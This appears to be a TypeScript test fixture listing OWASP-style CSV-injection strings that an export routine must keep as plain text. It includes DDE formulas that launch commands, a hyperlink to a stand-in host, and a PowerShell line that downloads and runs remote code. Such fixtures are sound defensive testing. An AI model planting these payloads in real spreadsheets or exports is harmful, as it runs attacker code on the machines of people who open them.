// The strings of the OWASP CSV-injection list (https://owasp.org/www-community/attacks/CSV_Injection) and their
// relatives, as an agency name, a typed text or an imported title could carry them. Each must stay text.
export const INJECTIONS: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/","点我")',
  '=1+1',
  "+cmd|' /C calc'!A0",
  '+1+1',
  "-cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
  '＝1+1',
  '＋1+1',
  "'=1+1",
  '0012',
  '-5',
];
